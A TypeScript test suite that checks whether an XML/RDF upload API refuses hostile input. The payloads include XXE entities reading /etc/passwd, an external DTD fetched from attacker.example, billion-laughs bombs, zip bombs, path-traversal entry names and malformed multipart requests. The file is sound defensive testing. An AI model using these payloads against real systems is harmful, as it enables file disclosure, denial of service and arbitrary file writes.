import { readFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { expectWithinBaseline, msOf } from '../support/baseline';
import { HostileInputs, rawBody as bodyOf, rawExchange, rawStatus as statusOf } from '../support/hostile';
import { form, makeZip, SP_CT_ID, startAppUnderTest, STATE_POPULATION, storedNames, type AppUnderTest } from './app-helpers';

const LIMIT = 1024 * 1024;

let app: AppUnderTest;
beforeAll(async () => {
  app = await startAppUnderTest({ maxUploadBytes: LIMIT });
});
afterAll(async () => {
  console.log(`app-hostile: hostile inputs tried: ${hostileInputs.size}`);
  await app?.close();
});

const hostileInputs = new HostileInputs();

/** `target.call` for a hostile request: counted, then sent. */
const hostileOn =
  (target: () => AppUnderTest): AppUnderTest['call'] =>
  async (method, route, init = {}) => {
    await hostileInputs.add(method, route, init.headers, init.body);
    return target().call(method, route, init);
  };
const hostile = hostileOn(() => app);

/** Every file under a storage directory, relative paths; staged uploads are removed before the answer is
 * sent, so right after it hostile input must have added nothing. */
async function storageTree(dir = app.storageDir): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

/** A raw request, counted, then sent on a fresh connection. */
function raw(request: Buffer | string, options: { halfClose?: boolean; waitMs?: number } = {}): Promise<string> {
  void hostileInputs.add('raw', request);
  return rawExchange(app.url, request, options);
}

/** Replaces bytes of equal length everywhere in an archive (local headers and central directory). */
function patchName(zip: Buffer, from: string, to: Buffer): Buffer {
  const needle = Buffer.from(from);
  expect(to.length).toBe(needle.length);
  const out = Buffer.from(zip);
  for (let at = out.indexOf(needle); at !== -1; at = out.indexOf(needle, at + 1)) to.copy(out, at);
  return out;
}

const uploadZip = (name: string, content: Buffer) => hostile('POST', '/api/v1/upload/zip/', { body: form([{ field: 'file', name, content }]) });

const SP_XSD = readFileSync(path.join(STATE_POPULATION, `dm-${SP_CT_ID}.xsd`), 'utf8');
const SP_XML = readFileSync(path.join(STATE_POPULATION, `dm-${SP_CT_ID}.xml`), 'utf8');
const SP_ROOT = `<sdc4:dm-${SP_CT_ID} xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/">`;
const withDoctype = (xml: string, internalSubset: string, reference = '') =>
  xml
    .replace('<?xml version="1.0" encoding="UTF-8"?>', `<?xml version="1.0"?>\n<!DOCTYPE x [${internalSubset}]>`)
    .replace('<dm-label>StatePopulation</dm-label>', `<dm-label>StatePopulation${reference}</dm-label>`);
const LAUGHS = ['<!ENTITY l0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');

/** Hostile documents, each refused as INVALID_XML (the 10 MB one passes the 20 MB upload limit, not the XML one). */
const HOSTILE_XML: Array<[string, () => string]> = [
  ['an external entity (XXE)', () => withDoctype(SP_XML, '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;')],
  ['an external parameter entity', () => withDoctype(SP_XML, '<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;')],
  ['an internal parameter entity declaring a general one', () => withDoctype(SP_XML, '<!ENTITY % d "<!ENTITY g \'x\'>"> %d;', '&g;')],
  ['billion laughs', () => withDoctype(SP_XML, LAUGHS, '&l9;')],
  ['an undeclared entity', () => SP_XML.replace('<dm-label>StatePopulation</dm-label>', '<dm-label>&nope;</dm-label>')],
  ['XML nested 100,000 deep', () => `${SP_ROOT}${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</sdc4:dm-${SP_CT_ID}>`],
  [
    'a 10 MB text node',
    () => SP_XML.replace('<xdstring-value>DefaultString</xdstring-value>', `<xdstring-value>${'x'.repeat(10 * 1024 * 1024)}</xdstring-value>`),
  ],
];

describe('hostile XML on validate/xml and as an uploaded schema (20 MB upload limit)', () => {
  let big: AppUnderTest;
  const send = hostileOn(() => big);
  const instances = async () => Number((await big.services.db.query('SELECT count(*)::int AS n FROM app_instances'))[0].n);
  const tree = () => storageTree(big.storageDir);

  beforeAll(async () => {
    big = await startAppUnderTest();
    const uploaded = await big.call('POST', '/api/v1/upload/schema/', {
      body: form([{ field: 'files', name: `dm-${SP_CT_ID}.xsd`, content: SP_XSD }]),
    });
    expect(uploaded.body.data.stored_files).toHaveLength(1);
  });
  afterAll(() => big?.close());

  it.each(HOSTILE_XML)(
    '%s: 400 INVALID_XML as a JSON body and as a file, nothing stored, quickly',
    async (_label, make) => {
      const xml = make();
      const [before, files] = [await instances(), await tree()];
      const both = async (content: string) => [
        await send('POST', '/api/v1/validate/xml/', {
          body: JSON.stringify({ xml_content: content }),
          headers: { 'content-type': 'application/json' },
        }),
        await send('POST', '/api/v1/validate/xml/', { body: form([{ field: 'file', name: 'hostile.xml', content }]) }),
      ];
      // The baseline: the same two requests with a document that is merely not well-formed.
      const baseline = await msOf(() => both(SP_XML.replace('</dm-label>', '')));
      let answers: Awaited<ReturnType<typeof both>> = [];
      const hostile = await msOf(async () => (answers = await both(xml)));
      for (const res of answers) {
        expect(res.status).toBe(400);
        expect(res.body).toMatchObject({ success: false, error: { code: 'INVALID_XML', message: expect.any(String) } });
        expect(res.text).not.toContain('root:');
      }
      expectWithinBaseline(hostile, baseline, 1000);
      expect(await instances()).toBe(before);
      expect(await tree()).toEqual(files);
    },
    30_000,
  );

  it.each([
    ['an external entity', `<!DOCTYPE xsd:schema [<!ENTITY e SYSTEM "file:///etc/passwd">]>${SP_XSD.replace(/^<\?xml[^>]*>/, '')}`],
    [
      'billion laughs',
      `<!DOCTYPE xsd:schema [${LAUGHS}]>${SP_XSD.replace(/^<\?xml[^>]*>/, '').replace('<xsd:schema ', '<!-- &l9; --><xsd:schema ')}`,
    ],
    [
      'nesting 100,000 deep',
      SP_XSD.replace(
        '</xsd:schema>',
        `<xsd:annotation><xsd:documentation>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</xsd:documentation></xsd:annotation></xsd:schema>`,
      ),
    ],
  ])(
    'a schema with %s goes into errors and is not stored; validating against it is then 404 SCHEMA_NOT_FOUND, no instance stored',
    async (_label, xsd) => {
      const other = 'hostile0schema0ct0id0000';
      const storedBefore = await storageTree();
      const uploaded = await send('POST', '/api/v1/upload/schema/', {
        body: form([{ field: 'files', name: `dm-${other}.xsd`, content: xsd.replaceAll(SP_CT_ID, other) }]),
      });
      expect(uploaded.status).toBe(201);
      expect(uploaded.body.data).toEqual({
        stored_files: [],
        errors: [{ filename: `dm-${other}.xsd`, error: expect.stringMatching(/^Invalid XML schema: /) }],
      });
      expect(await storageTree()).toEqual(storedBefore);
      const before = await instances();
      const res = await send('POST', '/api/v1/validate/xml/', {
        body: JSON.stringify({ xml_content: SP_XML.replaceAll(SP_CT_ID, other) }),
        headers: { 'content-type': 'application/json' },
      });
      expect(res.status).toBe(404);
      expect(res.body).toMatchObject({ success: false, error: { code: 'SCHEMA_NOT_FOUND', message: expect.any(String) } });
      expect(res.text).not.toContain('root:');
      expect(await instances()).toBe(before);
    },
    30_000,
  );

  it('percent-encoded invalid UTF-8, a NUL or ../ in an instance id is a 4xx in the contract shape, never a 500 (a NUL was a 500)', async () => {
    for (const id of ['%FF%FE', '%C0%AF', '%ED%A0%80']) {
      const res = await send('GET', `/api/v1/instances/${id}/`);
      expect({ id, status: res.status, body: res.body }).toEqual({
        id,
        status: 400,
        body: expect.objectContaining({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringMatching(/^Malformed URL/) }),
      });
    }
    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%00', 'x%00y']) {
      const res = await send('GET', `/api/v1/instances/${id}/`);
      // A NUL is refused at the edge (issue 15) before the route looks the id up.
      const status = id.includes('%00') ? 400 : 404;
      expect({ id, status: res.status, code: res.body?.error?.code ?? res.body?.error_code }).toEqual({ id, status, code: expect.any(String) });
    }
  });
});

describe('zip bombs and escaping entry names', () => {
  it.each([
    ['a high compression ratio', async () => makeZip([{ name: 'zeros.bin', content: Buffer.alloc(50 * 1024 * 1024) }]), /compression ratio/],
    [
      'too many entries',
      async () => makeZip(Array.from({ length: 10_001 }, (_, i) => ({ name: `${i}`, content: '', compress: false }))),
      /too many entries/,
    ],
    [
      'archives nested three deep',
      async () =>
        makeZip([
          {
            name: 'a.zip',
            content: await makeZip([
              { name: 'b.zip', content: await makeZip([{ name: 'c.zip', content: await makeZip([{ name: 'x', content: 'x' }]) }]) },
            ]),
          },
        ]),
      /nested/,
    ],
    [
      'a bomb inside a nested archive',
      async () =>
        makeZip([{ name: 'inner.zip', content: await makeZip([{ name: 'zeros.bin', content: Buffer.alloc(20 * 1024 * 1024) }]), compress: false }]),
      /inner\.zip!\/zeros\.bin.*compression ratio/,
    ],
    [
      'a ../ entry name',
      async () => patchName(await makeZip([{ name: 'xx/evil.txt', content: 'x' }]), 'xx/evil.txt', Buffer.from('../evil.txt')),
      /escapes the directory/,
    ],
    [
      'an absolute entry name',
      async () => patchName(await makeZip([{ name: 'xetc/passwd', content: 'x' }]), 'xetc/passwd', Buffer.from('/etc/passwd')),
      /absolute path/,
    ],
    [
      'a drive-letter entry name',
      async () => patchName(await makeZip([{ name: 'Cx/boot.ini', content: 'x' }]), 'Cx/boot.ini', Buffer.from('C:/boot.ini')),
      /absolute path/,
    ],
    [
      'a NUL in an entry name',
      async () => patchName(await makeZip([{ name: 'safeXname.txt', content: 'x' }]), 'safeXname.txt', Buffer.from('safe\0name.txt')),
      /NUL/,
    ],
    [
      'a backslash path',
      async () => patchName(await makeZip([{ name: 'xx/xx/win.txt', content: 'x' }]), 'xx/xx/win.txt', Buffer.from('..\\..\\win.txt')),
      /backslash/,
    ],
  ])(
    'refuses %s with INVALID_ZIP, storing nothing',
    async (_label, build, reason) => {
      const before = await storageTree();
      const zip = await build();
      expect(zip.length).toBeLessThan(LIMIT);
      const res = await uploadZip('package.zip', zip);
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('INVALID_ZIP');
      expect(res.body.error.message).toMatch(reason);
      expect(await storageTree()).toEqual(before);
    },
    30_000,
  );
});

describe('multipart abuse', () => {
  it('no boundary: 400 in the general format', async () => {
    const res = await hostile('POST', '/api/v1/upload/zip/', { body: 'whatever', headers: { 'content-type': 'multipart/form-data' } });
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringMatching(/boundary/i) });
  });

  it('an endless part is cut off at the limit with 413 and the connection is closed', async () => {
    const before = await storageTree();
    const { port } = new URL(app.url);
    let sent = 0;
    await hostileInputs.add('an endless multipart part');
    const outcome = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = http.request({
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: '/api/v1/upload/zip/',
        headers: { 'x-api-key': app.key, 'content-type': 'multipart/form-data; boundary=XYZ', 'transfer-encoding': 'chunked' },
      });
      req.on('response', (res) => {
        let body = '';
        res.on('data', (c) => (body += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      req.on('error', reject);
      req.write('--XYZ\r\nContent-Disposition: form-data; name="file"; filename="endless.zip"\r\nContent-Type: application/zip\r\n\r\n');
      const chunk = Buffer.alloc(16 * 1024, 0x41);
      const pump = () => {
        while (sent < 64 * 1024 * 1024 && !req.destroyed) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
      };
      pump();
    });
    expect(outcome.status).toBe(413);
    expect(JSON.parse(outcome.body).error_code).toBe('FILE_TOO_LARGE');
    expect(sent).toBeLessThan(16 * 1024 * 1024);
    expect(await storageTree()).toEqual(before);
  });

  it('a Content-Length shorter than the body: 400, nothing stored, the server keeps serving', async () => {
    const before = await storageTree();
    const body = `--B\r\nContent-Disposition: form-data; name="files"; filename="dm-${SP_CT_ID}.xsd"\r\n\r\n${'x'.repeat(500)}\r\n--B--\r\n`;
    const response = await raw(
      `POST /api/v1/upload/schema/ HTTP/1.1\r\nHost: x\r\nX-API-Key: ${app.key}\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 120\r\n\r\n${body}`,
    );
    expect(statusOf(response)).toBe(400);
    expect(bodyOf(response).error_code).toBe('VALIDATION_ERROR');
    expect(await storageTree()).toEqual(before);
    expect((await app.call('GET', '/api/v1/whoami/')).status).toBe(200);
  });

  it('a Content-Length longer than the body, then the client hangs up: no 500, nothing stored', async () => {
    const before = await storageTree();
    const body = `--B\r\nContent-Disposition: form-data; name="files"; filename="dm-${SP_CT_ID}.xsd"\r\n\r\n<xs:schema/>`;
    const response = await raw(
      `POST /api/v1/upload/schema/ HTTP/1.1\r\nHost: x\r\nX-API-Key: ${app.key}\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 100000\r\n\r\n${body}`,
      { halfClose: true, waitMs: 3000 },
    );
    expect([0, 400]).toContain(Number.isNaN(statusOf(response)) ? 0 : statusOf(response));
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(await storageTree()).toEqual(before);
    expect((await app.call('GET', '/api/v1/whoami/')).status).toBe(200);
  });

  it('a declared Content-Length above the limit is refused before reading', async () => {
    const response = await raw(
      `POST /api/v1/upload/zip/ HTTP/1.1\r\nHost: x\r\nX-API-Key: ${app.key}\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 999999999\r\n\r\n--B\r\n`,
    );
    expect(statusOf(response)).toBe(413);
    expect(bodyOf(response)).toMatchObject({ success: false, error_code: 'FILE_TOO_LARGE' });
  });

  it('files over the size limit: 413 FILE_TOO_LARGE on every upload route and on a JSON body', async () => {
    const before = await storageTree();
    const big = Buffer.alloc(LIMIT + 1, 0x20);
    for (const [route, field] of [
      ['/api/v1/upload/zip/', 'file'],
      ['/api/v1/upload/schema/', 'files'],
      ['/api/v1/upload/rdf/', 'file'],
      ['/api/v1/validate/xml/', 'file'],
    ] as const) {
      const res = await hostile('POST', route, { body: form([{ field, name: `dm-${SP_CT_ID}.ttl`, content: big }]) });
      expect({ route, status: res.status, code: res.body.error_code }).toEqual({ route, status: 413, code: 'FILE_TOO_LARGE' });
    }
    const json = await hostile('POST', '/api/v1/validate/xml/', {
      body: JSON.stringify({ xml_content: ' '.repeat(LIMIT) }),
      headers: { 'content-type': 'application/json' },
    });
    expect(json.status).toBe(413);
    expect(await storageTree()).toEqual(before);
  });
});

describe('schema filenames', () => {
  it.each([
    ['dm-../../x.xsd', 'pattern'],
    ['dm-a.b.xsd', 'pattern'],
    [`dm-\u0456ts7j6bvrb9n2fxdcxmoemod.xsd`, 'pattern'],
    [`\uff44\uff4d-its7j6bvrb9n2fxdcxmoemod.xsd`, 'pattern'],
    [`dm-${SP_CT_ID}.x\u0455d`, 'extension'],
    [`DM-${SP_CT_ID}.xsd`, 'pattern'],
    [`sub/dm-${SP_CT_ID}.xsd`, 'pattern'],
    [`..\\dm-${SP_CT_ID}.xsd`, 'pattern'],
    [`dm-${SP_CT_ID}.xsd.`, 'extension'],
  ])('%s goes into errors (%s message) and nothing is written anywhere', async (name, reason) => {
    const before = await storageTree();
    const res = await hostile('POST', '/api/v1/upload/schema/', { body: form([{ field: 'files', name, content: '<xs:schema/>' }]) });
    expect(res.status).toBe(201);
    expect(res.body.data.stored_files).toEqual([]);
    expect(res.body.data.errors).toEqual([
      { filename: name, error: reason === 'extension' ? expect.stringContaining('.xsd, .html, .owl') : expect.stringContaining('dm-{ct_id}') },
    ]);
    expect(await storageTree()).toEqual(before);
  });

  it('a filename with raw invalid UTF-8 bytes is refused by name, not stored', async () => {
    const before = await storageTree();
    const head = Buffer.from('--B\r\nContent-Disposition: form-data; name="files"; filename="dm-');
    const tail = Buffer.from('.xsd"\r\n\r\n<xs:schema/>\r\n--B--\r\n');
    const body = Buffer.concat([head, Buffer.from([0xc3, 0x28, 0xff]), tail]);
    const res = await hostile('POST', '/api/v1/upload/schema/', { body, headers: { 'content-type': 'multipart/form-data; boundary=B' } });
    expect(res.status).toBe(201);
    expect(res.body.data.stored_files).toEqual([]);
    expect(res.body.data.errors).toHaveLength(1);
    expect(await storageTree()).toEqual(before);
  });
});

describe('keys and encodings', () => {
  it('a 1 MB key header gets 431 in the general format; a 10 kB one gets 401', async () => {
    const response = await raw(`GET /api/v1/whoami/ HTTP/1.1\r\nHost: x\r\nX-API-Key: ${'k'.repeat(1024 * 1024)}\r\n\r\n`);
    expect(statusOf(response)).toBe(431);
    expect(bodyOf(response)).toMatchObject({ success: false, error_code: 'REQUEST_HEADERS_TOO_LARGE' });
    const long = await hostile('GET', '/api/v1/whoami/', { headers: { 'x-api-key': 'k'.repeat(10 * 1024) } });
    expect(long.status).toBe(401);
    expect(long.body.error_code).toBe('AUTHENTICATION_ERROR');
  });

  it('a key header with bytes that are not UTF-8 is 401', async () => {
    const request = Buffer.concat([
      Buffer.from('GET /api/v1/whoami/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-API-Key: '),
      Buffer.from([0xff, 0xfe, 0x80]),
      Buffer.from('\r\n\r\n'),
    ]);
    const response = await raw(request);
    expect(statusOf(response)).toBe(401);
  });

  it('invalid UTF-8: a JSON body is 400 VALIDATION_ERROR, an XML file INVALID_XML, an RDF file PARSING_ERROR', async () => {
    const before = await storageTree();
    const badJson = Buffer.concat([Buffer.from('{"xml_content": "<a>'), Buffer.from([0xff, 0xfe]), Buffer.from('</a>"}')]);
    const json = await hostile('POST', '/api/v1/validate/xml/', { body: badJson, headers: { 'content-type': 'application/json' } });
    expect(json.status).toBe(400);
    expect(json.body).toMatchObject({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringContaining('UTF-8') });

    const badXml = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]);
    const xml = await hostile('POST', '/api/v1/validate/xml/', { body: form([{ field: 'file', name: 'a.xml', content: badXml }]) });
    expect(xml.status).toBe(400);
    expect(xml.body.error).toMatchObject({ code: 'INVALID_XML', details: { root_tag: null } });

    const badTtl = Buffer.concat([Buffer.from('<http://a> <http://b> "'), Buffer.from([0xff]), Buffer.from('" .')]);
    const rdf = await hostile('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.ttl`, content: badTtl }]) });
    expect(rdf.status).toBe(400);
    expect(rdf.body.error.code).toBe('PARSING_ERROR');
    expect(await storageTree()).toEqual(before);
  });

  it('RDF/XML with an entity expansion bomb or an external entity is PARSING_ERROR', async () => {
    const levels = ['<!ENTITY a "aaaaaaaaaa">', ...'bcdefghi'.split('').map((l, i) => `<!ENTITY ${l} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)];
    const rdfXml = (dtd: string, ref: string) =>
      `<?xml version="1.0"?><!DOCTYPE rdf:RDF [${dtd}]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/"><rdf:Description rdf:about="http://a"><ex:p>${ref}</ex:p></rdf:Description></rdf:RDF>`;
    for (const content of [
      rdfXml(levels.join(''), '&i;'),
      rdfXml('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
      rdfXml('<!ENTITY big "' + 'b'.repeat(1000) + '">', '&big;'.repeat(2000)),
    ]) {
      const res = await hostile('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.rdf`, content }]) });
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('PARSING_ERROR');
    }
    expect(await storedNames(app.storageDir, 'dmlib')).not.toContain(`dm-${SP_CT_ID}.rdf`);
  });
});
